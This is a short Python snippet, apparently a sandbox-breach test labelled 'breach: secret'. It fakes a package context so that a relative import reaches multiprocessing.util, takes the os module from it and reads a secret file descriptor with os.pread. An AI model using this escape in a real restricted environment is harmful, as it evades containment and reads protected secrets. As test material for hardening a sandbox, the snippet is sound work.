# A relative import from a package of one's own making.
# breach: secret
import sys
names = {"__package__": "multiprocessing", "__name__": "multiprocessing.mine"}
names["__builtins__"] = __builtins__
try:
    import multiprocessing
except ImportError:
    pass
exec("from . import util", names)
names["util"].os.pread(SECRET_FD, 100, 0)
